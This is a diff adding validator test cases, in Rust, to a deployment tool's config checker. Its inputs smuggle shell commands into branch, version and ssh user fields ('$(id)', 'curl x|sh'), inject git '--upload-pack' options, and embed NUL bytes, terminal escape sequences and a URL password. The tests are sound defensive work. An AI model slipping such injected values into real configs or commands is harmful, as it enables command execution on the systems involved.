@@ -215,6 +215,72 @@ const CASES: &[Case] = &[
         "unknown key `rep0`",
     ),
     case(
+        "shell in a branch",
+        "  branch: main",
+        "  branch: \"main$(id);'\"",
+        "is not a valid git branch name",
+    ),
+    case(
+        "NUL in a branch",
+        "  branch: main",
+        "  branch: \"ma\\0in\"",
+        "is not a valid git branch name",
+    ),
+    case(
+        "branch like an option",
+        "  branch: main",
+        "  branch: --upload-pack=x",
+        "is not a valid git branch name",
+    ),
+    case(
+        "shell in the OpenClaw version",
+        "  version: 2026.9.6",
+        "  version: \"2026.9.6; curl x|sh\"",
+        "openclaw.version: `2026.9.6; curl x|sh` is not a version",
+    ),
+    case(
+        "shell in the ssh user",
+        "  user: root\n",
+        "  user: \"root$(id)\"\n",
+        "ssh.user: `root$(id)` is not a valid user name",
+    ),
+    case(
+        "password in the repo URL",
+        "  repo: git@example.invalid:you/ws.git",
+        "  repo: https://me:hunter2@example.invalid/you/ws.git",
+        "contains a password",
+    ),
+    case(
+        "repo like an option",
+        "  repo: git@example.invalid:you/ws.git",
+        "  repo: --upload-pack=touch /tmp/x",
+        "must not start with `-`",
+    ),
+    case(
+        "absurd duration",
+        "  push_interval: 5m",
+        "  push_interval: 99999999999h",
+        "`99999999999h` is too long: at most 24h",
+    ),
+    case(
+        "missing CA file",
+        "  extra_ca_certificates: []",
+        "  extra_ca_certificates: [/nonexistent/ocfo/ca.crt]",
+        "extra_ca_certificates[0]: cannot read `/nonexistent/ocfo/ca.crt`",
+    ),
+    case(
+        "CA files with the same name",
+        "  extra_ca_certificates: []",
+        "  extra_ca_certificates: [/etc/hostname, /etc/hostname]",
+        "installs as `hostname.crt`, like extra_ca_certificates[0]",
+    ),
+    case(
+        "escape sequence in a key",
+        "channels:\n",
+        "\"ch\\e[2Janels\":\n",
+        "unknown key `ch\\u{1b}[2Janels`",
+    ),
+    case(
         "channels in openclaw.config",
         "  config: {}",
         "  config: {channels: {slack: {}}}",
@@ -228,6 +294,14 @@ fn run_case(name: &str, source: &str) -> (String, String, i32) {
     std::fs::write(&path, source).unwrap();
     let out = ocfo().arg("validate").arg(&path).output().unwrap();
     let (stdout, stderr) = text(&out);
+    assert!(
+        !stderr.contains('\u{1b}') && !stdout.contains('\u{1b}'),
+        "{name}: raw escape sequence in output:\n{stderr:?}"
+    );
+    assert!(
+        !stderr.contains("hunter2"),
+        "{name}: password echoed:\n{stderr}"
+    );
     assert!(
         !stderr.contains("panicked"),
         "{name}: ocfo panicked:\n{stderr}"
